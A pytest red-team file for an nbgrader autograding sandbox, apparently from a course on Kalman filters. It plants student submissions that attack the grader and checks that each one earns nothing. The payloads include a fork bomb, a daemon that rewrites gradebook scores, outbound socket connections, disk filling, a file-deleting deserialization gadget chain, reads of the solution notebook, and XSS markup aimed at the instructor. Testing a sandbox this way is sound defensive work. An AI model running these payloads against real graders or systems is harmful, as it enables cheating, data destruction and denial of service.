"""Red team for the trusted judge (``python -m grading.classgrade``, ``make grade``).

One scratch course (config, library, data, grading tools, solutions of labs 01 and 02) receives a class of lab 02:
three honest students (complete, exercises 1 and 4 done, untouched), three whose answers hold slips the visible checks
name (``SLIPS``: the report of common slips must count exactly these) and one student per attack. Every attacker but
two is the "half" student (exercises 1 and 4 answered honestly: 5 of 9 points) with the attack in the answer cells
of exercises 2 and 3, where a successful attack would earn the 4 points the student did not work for; so each
attacker must score exactly 5. A single ``classgrade`` run with two workers grades them all, as an instructor would;
the tests below read what it left behind (gradebook, autograded notebooks, feedback, grades.csv, the report).

The attacks are the ones that earned full marks when the tests ran in the student's own kernel: a forged display
hook, the guard's state edited, a frame walk to the expected values, a trace function, forged replies to the judge,
the library's source re-executed, filterpy and ahrs called, a fork bomb against classmates, ``In`` printed into the
feedback, and the notebook's metadata edited; and the ones the sandbox already stopped: writing the course or the
library, editing the gradebook, a daemon, the network, a 100 MB print, reading the solutions, a cell that ignores
interrupts.
"""

from __future__ import annotations

import csv
import hashlib
import html
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import time
from collections import Counter
from pathlib import Path

import nbformat
import numpy as np
import pytest

from conftest import ROOT, nbgrader
from fusionlab.checks import slips
from grading import launcher, sandbox, slipreport
from grading.bench_classgrade import fill_answers, grade_id
from test_feedback import _hidden_lines
from test_slips import LAB02_OTHER, LAB02_PLANTED

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None, reason="bubblewrap (bwrap) is not installed: apt-get install bubblewrap"
)

LAB = "02_kalman_falling_body"
POINTS = {"ex1_tests": 2, "ex2_tests": 2, "ex3_tests": 2, "ex4_tests": 3}
FULL, HALF = 9, 5
MARKER = "fusionlab-attack-marker"
# students with planted slips: test -> the slip its answer holds (tests/test_slips.py's answers); the others pass
SLIPS = {
    "slips_one": {
        "ex1_tests": "joseph.short_form",
        "ex2_tests": "state_space.drag_sign",
        "ex3_tests": "predict.no_control",
        "ex4_tests": "update.innovation_sign",
    },
    "slips_two": {
        "ex1_tests": "joseph.short_form",
        "ex2_tests": "state_space.gravity_sign",
        "ex3_tests": "predict.no_Q",
        "ex4_tests": "update.gain_no_R",
    },
    "slips_three": {"ex1_tests": "joseph.no_noise_term", "ex2_tests": slips.RAISED, "ex3_tests": slips.UNRECOGNISED},
}
TIMEOUT = 10


def _set(nb, gid, code):
    nb = nbformat.from_dict(nb)
    [cell] = [c for c in nb.cells if grade_id(c) == gid]
    cell.source = code
    return nb


def _answers(nb, ex2, ex3, prelude=""):
    """``nb`` with exercises 2 and 3 answered by ``ex2`` / ``ex3`` (bodies of my_state_space / my_predict)."""

    def body(code):
        return "\n".join("    " + line for line in code.strip().splitlines())

    nb = _set(nb, "ex2_solution", prelude + f"\ndef my_state_space(k, m, g, dt):\n{body(ex2)}\n")
    return _set(nb, "ex3_solution", f"def my_predict(x, P, A, Q, B, u):\n{body(ex3)}\n")


XSS_MARKDOWN = "My answer <img src=x onerror=\"document.title='XSS-IMG'\"> <script>document.title='XSS-MD'</script>"
XSS_JS = "window.XSS_JS = 1"
XSS_HTML = "<b onmouseover=\"document.title='XSS-HTML'\">bold</b><script>window.XSS_HTML = 1</script>"
XSS_IFRAME = '<iframe srcdoc="<script>parent.XSS_FRAME = 1</script>"></iframe>'
XSS_MARKS = ("<img src=x", "<script>document.title", "window.XSS_JS", "<b onmouseover", "window.XSS_HTML", "<iframe")
JUNK2 = "return np.eye(2), np.zeros((2, 2)), np.zeros(2)"
JUNK3 = "return np.zeros_like(x), np.zeros_like(P)"


def _attacks(root, port, half):
    gradebook = str(root / "gradebook.db")
    out = {
        # 1: nbgrader scored a test cell by its first output; a non-number result counted as full points
        "forged_display": _answers(
            half,
            "import sys\ngetattr(sys, 'display' + 'hook')('full marks')\n" + JUNK2,
            "import sys\ngetattr(sys, 'display' + 'hook')('full marks')\n" + JUNK3,
        ),
        # 2: the in-kernel guard's own state edited
        "guard_edited": _answers(
            half,
            JUNK2,
            JUNK3,
            prelude=(
                "_v = vars\nG = _v(guard)\nfor _k in ('assert_close', 'assert_equal', 'intact', 'release', 'grade'):\n"
                "    G[_k] = lambda *a, **k: None\n"
            ),
        ),
        # 3: walk up the frames to where the expected values were
        "frame_walk": _answers(
            half,
            (
                "import sys\nf = sys._getframe()\nwhile f is not None:\n"
                "    for v in f.f_locals.values():\n"
                "        if isinstance(v, list) and v and isinstance(v[0], tuple):\n"
                "            return v[0]\n"
                "    f = f.f_back\n" + JUNK2
            ),
            (
                "import sys\nf = sys._getframe()\nwhile f is not None:\n"
                "    if 'expected' in f.f_locals:\n        return f.f_locals['expected'][0]\n"
                "    f = f.f_back\n" + JUNK3
            ),
        ),
        # 4: a trace function that rebinds the grader's names while the tests run
        "trace": _answers(
            half,
            JUNK2,
            JUNK3,
            prelude=(
                "import sys\ndef _t(frame, event, arg):\n    frame.f_globals['guard'] = None\n    return _t\n"
                "sys.settrace(_t)\n"
            ),
        ),
        # 5: forged messages to the process that reads the results
        "forged_replies": _answers(
            half,
            JUNK2,
            JUNK3,
            prelude=(
                "import os, json\nfor _fd in range(3, 30):\n    try:\n"
                "        os.write(_fd, (json.dumps({'ok': True, 'ready': True, 'value': 1.0}) + '\\n').encode())\n"
                "    except OSError:\n        pass\n"
            ),
        ),
        # 6: the library's own source executed again to get the reference back
        "reference_from_source": _answers(
            half,
            (
                "_ex, _ns = exec, {'__name__': 'fusionlab.falling_body', '__package__': 'fusionlab'}\n"
                "import fusionlab.falling_body as _fb\n_ex(open(_fb.__file__).read(), _ns)\n"
                "return _ns['falling_body_' + 'state_space'](k, m, g, dt)"
            ),
            (
                "_ex, _ns = exec, {'__name__': 'fusionlab.kalman', '__package__': 'fusionlab'}\n"
                "_ex(open(kf.__file__).read(), _ns)\nreturn _ns['pre' + 'dict'](x, P, A, Q, B, u)"
            ),
        ),
        # 8: packages nobody forbade in the kernel: filterpy's helpers, ahrs
        "other_packages": _answers(
            half, "import ahrs\n" + JUNK2, ("import filterpy.kalman as _fk\nreturn _fk.predict(x, P, A, Q, B=B, u=u)")
        ),
        # sandbox: write the course, the library, the gradebook; a daemon; the network; a huge print; read others
        "writes": _answers(
            half,
            (
                f"import pathlib\nfor _p in [{str(root / 'pwned.txt')!r}, {str(root / 'lib' / 'fusionlab' / 'x.py')!r},"
                f" {str(root / 'solutions' / LAB / 'pwned.txt')!r}]:\n"
                "    try:\n        pathlib.Path(_p).write_text('pwned')\n    except Exception:\n        pass\n"
                f"import sqlite3\ntry:\n    _c = sqlite3.connect({gradebook!r})\n"
                "    _c.execute('UPDATE grade SET auto_score = 100')\n    _c.commit()\nexcept Exception:\n    pass\n"
                + JUNK2
            ),
            JUNK3,
        ),
        "daemon": _answers(
            half,
            (
                "import os, subprocess, sys\n"
                f"_code = 'import time, sqlite3\\ntime.sleep(8)\\nsqlite3.connect({gradebook!r}).execute(\"UPDATE "
                "grade "
                "SET auto_score = 100\").connection.commit()'\n"
                f"subprocess.Popen([sys.executable, '-c', _code, '{MARKER}'], start_new_session=True)\n" + JUNK2
            ),
            JUNK3,
        ),
        "network": _answers(
            half,
            (
                f"import socket\nfor _a in [('1.1.1.1', 80), ('127.0.0.1', {port})]:\n    try:\n"
                f"        socket.create_connection(_a, timeout=2).sendall(b'{MARKER}')\n    except Exception:\n"
                "        pass\n" + JUNK2
            ),
            "print('x' * 100_000_000)\n" + JUNK3,
        ),
        "read_others": _answers(
            half,
            (
                "import json\n_src = {}\n"
                f"for _p in [{str(root / 'solutions' / LAB / (LAB + '.ipynb'))!r}, "
                f"{str(root / 'submitted' / 'full' / LAB / (LAB + '.ipynb'))!r}]:\n"
                "    try:\n        for _c in json.load(open(_p))['cells']:\n"
                "            if 'def my_state_space' in ''.join(_c['source']):\n"
                "                exec('\\n'.join(l for l in ''.join(_c['source']).splitlines() if '###' not in l), "
                "_src)\n"
                "    except Exception:\n        pass\n"
                "if 'my_state_space' in _src:\n    return _src['my_state_space'](k, m, g, dt)\n" + JUNK2
            ),
            JUNK3,
        ),
        # a cell that ignores the interrupt and never ends
        "stuck": _answers(
            half,
            JUNK2,
            JUNK3,
            prelude=("import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(3600)\n"),
        ),
        # the disk filled from the box's folder and /tmp (each is in memory, 256 MB)
        "disk_fill": _answers(
            half,
            JUNK2,
            JUNK3,
            prelude=(
                "import os\nfor _d in ('.', '/tmp'):\n    for _i in range(40):\n        try:\n"
                "            with open(os.path.join(_d, f'fill{_i}.bin'), 'wb') as _f:\n"
                "                _f.write(b'x' * (10 << 20))\n        except OSError:\n            break\n"
            ),
        ),
        # 9: a fork bomb that holds its processes while classmates are graded
        "fork_bomb": _answers(
            half,
            JUNK2,
            JUNK3,
            prelude=(
                "import os, time\n_kids = 0\nwhile _kids < 100000:\n    try:\n        if os.fork() == 0:\n"
                "            time.sleep(3600)\n            os._exit(0)\n        _kids += 1\n    except OSError:\n"
                "        break\ntime.sleep(3600)\n"
            ),
        ),
    }
    # 12: objects that name a library module and a chain to a class with a __del__ (tempfile's closer, numpy's
    # DataSource): sent as forged replies and returned; had the judge rebuilt them, they would delete a classmate's
    # notebook, the gradebook and a folder of the course as they were dropped
    victims = {
        "file": [str(root / "submitted" / "full" / LAB / f"{LAB}.ipynb"), gradebook],
        "tree": str(root / "canary"),
    }
    gadgets = (
        "import json, os\n"
        f"_victims = {victims!r}\n"
        "_closer = [{'__object__': 'fusionlab.datasets:tempfile._TemporaryFileCloser', 'state': {'__dict__': {\n"
        "    'file': {'__object__': 'fusionlab.datasets:tempfile._TemporaryFileCloser', 'state': {'__dict__': {}}},\n"
        "    'name': _v, 'delete': True, 'close_called': False}}} for _v in _victims['file']]\n"
        "_source = {'__object__': 'fusionlab.accel_tilt:np.lib._datasource.DataSource', 'state': {'__dict__': {\n"
        "    '_istmpdest': True, '_destpath': _victims['tree']}}}\n"
        "_reply = json.dumps({'ok': True, 'value': {'__tuple__': _closer + [_source]},\n"
        "                     'objects': {'0': _source}}) + '\\n'\n"
        "for _fd in range(3, 30):\n    try:\n        os.write(_fd, _reply.encode())\n    except OSError:\n"
        "        pass\n"
        "class _Closer:\n    pass\n"
        "_Closer.__module__, _Closer.__qualname__ = 'fusionlab.datasets', 'tempfile._TemporaryFileCloser'\n"
        "_c = _Closer()\n_c.name, _c.delete, _c.close_called, _c.file = _victims['file'][0], True, False, _Closer()\n"
    )
    out["gadgets"] = _answers(half, gadgets + "return _c, _c, _c", gadgets + "return _c, _c")
    # 13: the hidden inputs read back from the verdicts: an answer that passes the visible case, then returns zeros
    # (hoping for "got 0, expected ..."), and one that raises with its arguments on its second call
    out["leak_inputs"] = _answers(
        half,
        (
            "global _calls2\n_calls2 = globals().get('_calls2', 0) + 1\n"
            "if _calls2 == 1:\n    return np.array([[1, 0.01], [0, 0.99975]]), np.zeros((2, 1)), np.zeros(1)\n"
            "return np.zeros((2, 2)), np.zeros((2, 1)), np.zeros(1)"
        ),
        (
            "global _calls3\n_calls3 = globals().get('_calls3', 0) + 1\n"
            "if _calls3 > 1:\n    raise ValueError('LEAKED ' + repr((x, P, A, Q, B, u)))\n" + JUNK3
        ),
    )
    # 14: one reply of 120 MB of empty dicts, written straight to every pipe the box holds
    out["flood"] = _answers(
        half,
        JUNK2,
        (
            "import os\n_line = b'{\"ok\": true, \"value\": [' + b'{}, ' * 40_000_000 + b'{}]}\\n'\n"
            "for _fd in range(3, 30):\n    try:\n        os.write(_fd, _line)\n    except OSError:\n        pass\n"
            + JUNK3
        ),
    )
    # 15: the kernel's per-user key store as a channel between the boxes of one student: the box of exercise 2's
    # test stores a key, the box of exercise 3's test finds it and only then answers with the model's code
    honest3 = "return A @ x + B @ u, A @ P @ A.T + Q"
    out["keyring"] = _answers(
        half,
        JUNK2,
        f"if _seen > 0:\n    {honest3}\n" + JUNK3,
        prelude=(
            "import ctypes\n_libc = ctypes.CDLL(None, use_errno=True)\n_libc.syscall.restype = ctypes.c_long\n"
            f"_seen = _libc.syscall(249 if __import__('platform').machine() == 'x86_64' else 218, b'user', "
            f"b'{MARKER}', None, 0)\n"
            f"_libc.syscall(248 if __import__('platform').machine() == 'x86_64' else 217, b'user', b'{MARKER}', b'1', "
            "1, -4)\n"
        ),
    )
    # 16: links nested in the submission folder to the solution notebook and the real library (the box is seeded
    # from that folder as root); the links are made by the fixture beside the notebook
    out["nested_links"] = _answers(
        half,
        ("text = open('stuff/notes.txt').read()\nraise ValueError(text[text.find('BEGIN HIDDEN'):][:3000])"),
        (
            "import importlib.util\n"
            "spec = importlib.util.spec_from_file_location('realkalman', 'stuff/reallib/kalman.py')\n"
            "real = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(real)\n"
            "return real.predict(x, P, A, Q, B, u)"
        ),
    )
    # 17: 36 characters of sympy that the judge would evaluate into gigabytes
    out["sympy_bomb"] = _answers(half, JUNK2, "import sympy\nreturn sympy.Pow(2, 4_000_000_000, evaluate=False), P")
    # 18: values shaped to blow up in the judge's own arithmetic: exercise 2's test computes B @ u, and a B of
    # 40 000 x 1 x 1 times a u of 1 x 40 000 (640 kB of reply) is 12.8 GB
    out["amplify"] = _answers(
        half,
        (
            "global _calls_amp\n_calls_amp = globals().get('_calls_amp', 0) + 1\n"
            "if _calls_amp == 1:\n    return np.array([[1, 0.01], [0, 0.99975]]), np.zeros((2, 1)), np.zeros(1)\n"
            "return np.eye(2), np.ones((40_000, 1, 1)), np.ones((1, 40_000))"
        ),
        JUNK3,
    )
    # 19: scripts for the instructor's browser (Formgrader and the feedback page are served by the instructor's
    # Jupyter server): raw HTML in a written answer, a saved JavaScript output, an added cell with an iframe
    xss = nbformat.from_dict(_answers(half, JUNK2, JUNK3))
    [q1] = [c for c in xss.cells if grade_id(c) == "q1"]
    q1.source = XSS_MARKDOWN
    [ex2] = [c for c in xss.cells if grade_id(c) == "ex2_solution"]
    ex2.outputs = [
        nbformat.v4.new_output(
            "display_data", data={"application/javascript": XSS_JS, "text/html": XSS_HTML, "text/plain": "a plot"}
        )
    ]
    xss.cells.append(nbformat.v4.new_markdown_cell(XSS_IFRAME))
    out["xss"] = xss
    # 10: a last cell that prints every cell the kernel ran, hoping for the hidden tests
    leak = nbformat.from_dict(half)
    leak.cells.append(nbformat.v4.new_code_cell("print(In)\nprint(globals().keys())"))
    out["print_in"] = _answers(leak, "print(In)\n" + JUNK2, JUNK3)
    return out


def _pasted_update():
    """kalman.update_step pasted as my_update: locals renamed, a statement added, a comment on every line; the two
    helpers it calls written out by the student (the library's use private helpers of their own)."""
    import ast
    import inspect

    from fusionlab import kalman

    fn = ast.parse(inspect.getsource(kalman.update_step)).body[0]
    body = fn.body[1:] if isinstance(fn.body[0], ast.Expr) else fn.body
    body.insert(1, ast.parse("n_state = len(xx)").body[0])
    fn.body, fn.name = body, "my_update"
    fn.args.defaults = [ast.Constant("joseph")]
    names = {"x": "xx", "P": "PP", "K": "KK", "_gain": "gain_", "_joseph": "joseph_", "_information": "info_"}
    for node in ast.walk(fn):
        if isinstance(node, ast.Name) and node.id in names:
            node.id = names[node.id]
        elif isinstance(node, ast.arg) and node.arg in names:
            node.arg = names[node.arg]
    helpers = (
        "def gain_(PP, H, R):\n    return PP @ H.T @ np.linalg.inv(H @ PP @ H.T + R)\n\n"
        "def joseph_(PP, KK, H, R):\n    M = np.eye(PP.shape[0]) - KK @ H\n"
        "    return M @ PP @ M.T + KK @ R @ KK.T\n\n"
        "def info_(PP, H, R):\n    return np.linalg.inv(np.linalg.inv(PP) + H.T @ np.linalg.inv(R) @ H)\n\n"
    )
    return helpers + "\n".join(line + "  # my own working" for line in ast.unparse(fn).splitlines())


def _planted(full, planted):
    """``full`` with the answers of ``planted`` (test -> slip); exercise 4 does not call my_joseph (whose slip would
    be its slip too)."""
    answers = {**LAB02_PLANTED, **LAB02_OTHER}
    nb = _set(full, "ex4_solution", answers[slips.PASSED][1])
    for slip in planted.values():
        number, source = answers[slip]
        nb = _set(nb, f"ex{number}_solution", source)
    return nb


def _metadata_edited(full):
    """11: test cell emptied and unlocked, points raised, a duplicated grade id, a deleted test cell."""
    nb = nbformat.from_dict(full)
    by_id = {grade_id(c): c for c in nb.cells}
    by_id["ex1_tests"].source = ""
    by_id["ex1_tests"].metadata.nbgrader["locked"] = False
    by_id["ex2_tests"].metadata.nbgrader["points"] = 100
    dup = nbformat.from_dict(by_id["ex4_solution"])
    dup.source = "def my_update(x, P, z, H, R):\n    return x, P, P"
    dup.id = "duplicate-ex4"
    nb.cells.append(dup)
    nb.cells = [c for c in nb.cells if grade_id(c) != "ex3_tests"]
    return nb


def _tree_hash(root, skip):
    h = hashlib.sha256()
    for p in sorted(root.rglob("*")):
        rel = p.relative_to(root)
        if rel.parts[0] in skip or "__pycache__" in rel.parts or not p.is_file():
            continue
        h.update(str(rel).encode() + p.read_bytes())
    return h.hexdigest()


def _processes_with(marker):
    found = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                if marker.encode() in (d / "cmdline").read_bytes():
                    found.append(d.name)
            except OSError:
                pass
    return found


def _scores(root, students):
    from nbgrader.api import Gradebook

    out = {}
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        for student in students:
            try:
                sub = gb.find_submission_notebook(LAB, LAB, student)
            except Exception:  # noqa: BLE001 -- not in the gradebook
                out[student] = None
                continue
            out[student] = {g.name: g.auto_score for g in sub.grades if g.name in POINTS}
    return out


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("judgecourse")
    for name in ("lib", "data", "grading"):
        shutil.copytree(ROOT / name, root / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "nbgrader_config.py", root)
    shutil.copytree(ROOT / "solutions" / LAB, root / "solutions" / LAB)
    nbgrader(["generate_assignment", LAB, "--force"], cwd=root)
    release = nbformat.read(root / "labs" / LAB / f"{LAB}.ipynb", as_version=4)
    solution = nbformat.read(root / "solutions" / LAB / f"{LAB}.ipynb", as_version=4)
    full, half = fill_answers(release, solution, range(1, 5)), fill_answers(release, solution, {1, 4})

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)

    class_ = {
        "full": full,
        "half": half,
        "none": release,
        "metadata_edited": _metadata_edited(full),
        "pasted_library": _set(release, "ex4_solution", _pasted_update()),
    }
    class_.update({student: _planted(full, planted) for student, planted in SLIPS.items()})
    class_.update(_attacks(root, listener.getsockname()[1], half))
    for student, nb in class_.items():
        dest = root / "submitted" / student / LAB
        dest.mkdir(parents=True)
        nbformat.write(nb, dest / f"{LAB}.ipynb")
    links = root / "submitted" / "nested_links" / LAB / "stuff"
    links.mkdir()
    (links / "notes.txt").symlink_to(root / "solutions" / LAB / f"{LAB}.ipynb")
    (links / "reallib").symlink_to(root / "lib" / "fusionlab")
    (root / "submitted" / "not_json" / LAB).mkdir(parents=True)
    (root / "submitted" / "not_json" / LAB / f"{LAB}.ipynb").write_text("{ this is not a notebook")

    (root / "canary").mkdir()
    (root / "canary" / "keep.txt").write_text("canary")
    keep = (
        "gradebook.db",
        ".gradebook-backups",
        "autograded",
        "grades.csv",
        "feedback",
        f"integrity_{LAB}.md",
        f"integrity_{LAB}.csv",
        f"similarity_{LAB}.md",
        f"similarity_{LAB}.csv",
        f"slips_{LAB}.html",
        f"slips_{LAB}.csv",
    )
    before = _tree_hash(root, keep)
    with sqlite3.connect(root / "gradebook.db") as con:
        sources = con.execute("SELECT name, source FROM source_cell ORDER BY name").fetchall()
    env = dict(
        os.environ, PATH=str(Path(sys.executable).parent) + os.pathsep + os.environ.get("PATH", ""), MPLBACKEND="Agg"
    )
    t0 = time.monotonic()
    run = subprocess.run(
        [sys.executable, "-m", "grading.classgrade", LAB, "--workers", "2", "--timeout", str(TIMEOUT), "--no-generate"],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        timeout=1500,
    )
    seconds = time.monotonic() - t0
    nbgrader(["generate_feedback", LAB, "--force"], cwd=root)
    time.sleep(max(0.0, 9 - (time.monotonic() - t0 - seconds)))  # the daemon's delay: had it survived, it has written
    left = _processes_with(MARKER)
    try:
        conn, _ = listener.accept()
        connected = True
        conn.close()
    except BlockingIOError:
        connected = False
    listener.close()
    with sqlite3.connect(root / "gradebook.db") as con:
        sources_after = con.execute("SELECT name, source FROM source_cell ORDER BY name").fetchall()
    return dict(
        root=root,
        run=run,
        seconds=seconds,
        scores=_scores(root, class_),
        before=before,
        keep=keep,
        left=left,
        connected=connected,
        students=list(class_),
        sources=(sources, sources_after),
        solution=solution,
    )


def _autograded(graded, student, gid):
    nb = nbformat.read(graded["root"] / "autograded" / student / LAB / f"{LAB}.ipynb", as_version=4)
    cells = [c for c in nb.cells if grade_id(c) == gid]
    return cells, "".join(o.get("text", "") + o.get("evalue", "") for c in cells for o in c.get("outputs", []))


def _total(graded, student):
    return sum(graded["scores"][student].values())


def test_the_class_run_names_every_student_and_refuses_only_the_unreadable_one(graded):
    run = graded["run"]
    assert run.returncode == 1, run.stdout[-3000:] + run.stderr[-3000:]
    assert "not graded: not_json" in run.stderr
    assert "model solution: 9 / 9" in run.stdout
    # every student's visible round before any hidden one (grading.classgrade.grade_class), by the judges' clocks
    assert re.search(
        r"^rounds apart: the last visible part ended before the first hidden part began", run.stdout, re.M
    ), run.stdout[-3000:]
    assert run.stdout.index("round 2 of 2") > max(
        run.stdout.index(f"  {s}: visible parts graded") for s in ("full", "half")
    )
    for student in graded["students"] + ["not_json"]:
        assert re.search(rf"^{re.escape(student)}\s", run.stdout, re.M), student
    with open(graded["root"] / "grades.csv", newline="") as fh:
        rows = {r["student_id"]: r for r in csv.DictReader(fh) if r["assignment"] == LAB}
    assert set(rows) == set(graded["students"]) | {"not_json"}
    assert rows["not_json"]["status"].startswith("NOT GRADED: the notebook cannot be read")
    assert rows["full"]["status"] == "graded" and float(rows["full"]["raw_score"]) == FULL


def test_honest_students_score_what_they_did(graded):
    assert _total(graded, "full") == FULL
    assert _total(graded, "half") == HALF
    assert _total(graded, "none") == 0


def test_the_report_of_common_slips_counts_the_slips_planted_and_its_page_names_no_student(graded):
    with open(graded["root"] / f"slips_{LAB}.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    got = {(r["student"], r["grade_id"]): r["slip"] for r in rows}
    assert {r["student"] for r in rows} == set(graded["students"])  # not_json was not graded
    expected = {
        **SLIPS,
        "full": {},
        "half": {"ex2_tests": slips.NOT_ATTEMPTED, "ex3_tests": slips.NOT_ATTEMPTED},
        "none": dict.fromkeys(POINTS, slips.NOT_ATTEMPTED),
    }
    for student, planted in expected.items():
        assert {g: got[student, g] for g in POINTS} == {g: planted.get(g, slips.PASSED) for g in POINTS}, student
    named = Counter(r["slip"] for r in rows if r["slip"] not in slips.OUTCOMES)
    assert named == Counter(s for p in SLIPS.values() for s in p.values() if s not in slips.OUTCOMES), [
        (r["student"], r["grade_id"], r["slip"]) for r in rows if r["slip"] not in slips.OUTCOMES
    ]
    page = (graded["root"] / f"slips_{LAB}.html").read_text()
    for slip, count in named.items():
        shown = re.search(
            r'<td class="count">(\d+)</td><td>'
            + re.escape(html.escape(slips.text(slip)))
            + f" <code>{re.escape(slip)}</code>",
            page,
        )
        assert shown and int(shown.group(1)) == count, slip
    assert not [s for s in graded["students"] if "_" in s and s in page]
    assert "common slips: slips_02_kalman_falling_body.html" in graded["run"].stdout

    # each wrong answer's example: an answer cell that made it, as graded (the planted slip's own); the attackers'
    # code (markup, scripts) is text in it
    wrong = {
        f"example-{r['grade_id']}-{r['slip']}"
        for r in rows
        if r["slip"] not in slips.OUTCOMES or r["slip"] in (slips.UNRECOGNISED, slips.RAISED)
    }
    assert set(re.findall(r'<details class="example" id="([^"]+)">', page)) == wrong
    for gid, slip in sorted({(g, s) for p in SLIPS.values() for g, s in p.items() if s not in slips.OUTCOMES}):
        shown = re.search(f'id="example-{gid}-{slip}"><summary>example</summary><pre><code>(.*?)</code>', page, re.S)
        assert shown and html.unescape(shown.group(1)) == LAB02_PLANTED[slip][1].rstrip(), (gid, slip)
    assert "<script" not in page and "<img" not in page and "<iframe" not in page
    assert set(slipreport.names_of(graded["root"])) >= {r["student"] for r in rows}  # the gradebook's students


@pytest.mark.parametrize(
    "student",
    [
        "forged_display",
        "guard_edited",
        "frame_walk",
        "trace",
        "forged_replies",
        "reference_from_source",
        "other_packages",
        "writes",
        "daemon",
        "network",
        "read_others",
        "stuck",
        "fork_bomb",
        "print_in",
        "disk_fill",
        "gadgets",
        "leak_inputs",
        "flood",
        "keyring",
        "nested_links",
        "sympy_bomb",
        "amplify",
        "xss",
    ],
)
def test_each_attack_earns_nothing_beyond_the_honest_part(graded, student):
    assert graded["scores"][student] == {"ex1_tests": 2, "ex2_tests": 0, "ex3_tests": 0, "ex4_tests": 3}, graded[
        "run"
    ].stdout[-4000:]


def test_the_reference_called_from_a_stubbed_library_is_named(graded):
    _, text = _autograded(graded, "reference_from_source", "ex3_tests")
    assert "kalman.predict is the answer to an exercise of this lab" in text
    _, text = _autograded(graded, "other_packages", "ex3_tests")
    assert "not available while the lab is graded" in text
    _, text = _autograded(graded, "other_packages", "ex2_tests")
    assert "ahrs is not available while the lab is graded" in text


def test_edited_metadata_is_graded_against_the_gradebook_and_said(graded):
    assert graded["scores"]["metadata_edited"] == {"ex1_tests": 2, "ex2_tests": 2, "ex3_tests": 2, "ex4_tests": 3}
    line = re.search(r"^metadata_edited\s.*$", graded["run"].stdout, re.M).group(0)
    assert "9 / 9" in line and "ex4_solution appears more than once" in line
    cells, text = _autograded(graded, "metadata_edited", "ex1_tests")
    assert len(cells) == 1 and cells[0].source.strip() and "passed" in text
    cells, _ = _autograded(graded, "metadata_edited", "ex3_tests")
    assert len(cells) == 1, "the deleted test cell is back in the autograded notebook"


def test_a_stuck_cell_is_stopped_and_the_restart_is_said(graded):
    line = re.search(r"^stuck\s.*$", graded["run"].stdout, re.M).group(0)
    assert f"cell ex2_solution ran over {TIMEOUT} s" in line and "run again from the start without it" in line


def test_classmates_graded_beside_a_fork_bomb_are_unharmed(graded):
    honest = [s for s in ("full", "half", "metadata_edited") if graded["scores"][s] is not None]
    assert [_total(graded, s) for s in honest] == [FULL, HALF, FULL]
    assert "NOT GRADED" not in re.search(r"^fork_bomb\s.*$", graded["run"].stdout, re.M).group(0)


def test_the_course_the_gradebook_tests_and_the_network_are_untouched(graded):
    root = graded["root"]
    assert _tree_hash(root, graded["keep"]) == graded["before"]
    assert not (root / "pwned.txt").exists() and not (root / "lib" / "fusionlab" / "x.py").exists()
    assert graded["sources"][0] == graded["sources"][1]
    assert graded["scores"]["daemon"]["ex2_tests"] == 0 and graded["scores"]["writes"]["ex2_tests"] == 0
    assert graded["left"] == [], "no process of a submission outlives the run"
    assert not graded["connected"], "nothing reached the network"


@pytest.mark.parametrize("student", ["print_in", "nested_links"])
def test_no_hidden_test_reaches_the_feedback_whatever_the_notebook_prints(graded, student):
    page = (graded["root"] / "feedback" / student / LAB / f"{LAB}.html").read_text()
    text = html.unescape(re.sub(r"<[^>]+>", "", page))
    hidden = _hidden_lines(graded["solution"])
    assert len(hidden) > 10
    assert [line for line in hidden if line in text] == []
    nb = nbformat.read(graded["root"] / "autograded" / student / LAB / f"{LAB}.ipynb", as_version=4)
    assert "BEGIN HIDDEN TESTS" not in nbformat.writes(nb)


def test_feedback_shows_the_judges_verdict_for_each_test(graded):
    _, text = _autograded(graded, "half", "ex1_tests")
    assert "passed (2 of 2 points)" in text
    _, text = _autograded(graded, "half", "ex2_tests")
    assert "exercise 2 not attempted yet" in text and "(0 of 2 points)" in text
    page = (graded["root"] / "feedback" / "half" / LAB / f"{LAB}.html").read_text()
    assert "exercise 2 not attempted yet" in html.unescape(page)


def test_the_report_is_whole_and_a_run_on_one_student_merges_into_it(graded):
    root = graded["root"]
    report = (root / f"integrity_{LAB}.md").read_text()
    assert re.search(r"\| full \| " + LAB + r" \| clean \| 9 / 9 \|", report), report[:2000]
    env = dict(os.environ, PATH=str(Path(sys.executable).parent) + os.pathsep + os.environ.get("PATH", ""))
    run = subprocess.run(
        [sys.executable, "-m", "grading.classgrade", LAB, "--student", "half", "--no-generate"],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert run.returncode == 0, run.stdout[-2000:] + run.stderr[-2000:]
    with open(root / f"integrity_{LAB}.csv", newline="") as fh:
        students = {r["student"] for r in csv.DictReader(fh)}
    assert students == set(graded["students"]) | {"not_json"}
    flagged = {r for r in students if f"| {r} | {LAB} | REVIEW" in (root / f"integrity_{LAB}.md").read_text()}
    assert {"reference_from_source", "writes", "network"} <= flagged


def test_the_similarity_report_finds_a_pasted_library_function_and_twins_but_no_model_answer(graded):
    with open(graded["root"] / f"similarity_{LAB}.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    # the pasted body is update_step's; update holds the same equations after its checks, so either may match best
    pasted = {r["alike_with"] for r in rows if r["student"] == "pasted_library"}
    assert pasted & {"library kalman.update_step", "library kalman.update"}, rows
    assert {"pasted_library"} == {r["student"] for r in rows if r["alike_with"].startswith("library kalman.update")}
    library = {r["student"] for r in rows if r["alike_with"].startswith("library")}
    assert not library & {"full", "half", "metadata_edited"}, "the model answers are not copies of the library"
    twins = {(r["student"], r["alike_with"]) for r in rows if float(r["score"]) >= 0.99}
    assert ("full", "metadata_edited") in twins, rows
    text = (graded["root"] / f"similarity_{LAB}.md").read_text()
    assert re.search(r"## pasted_library ~ library kalman\.update(_step)?\b", text) and "my own working" in text


def test_a_pasted_library_function_earns_its_points_and_is_listed_not_hidden(graded):
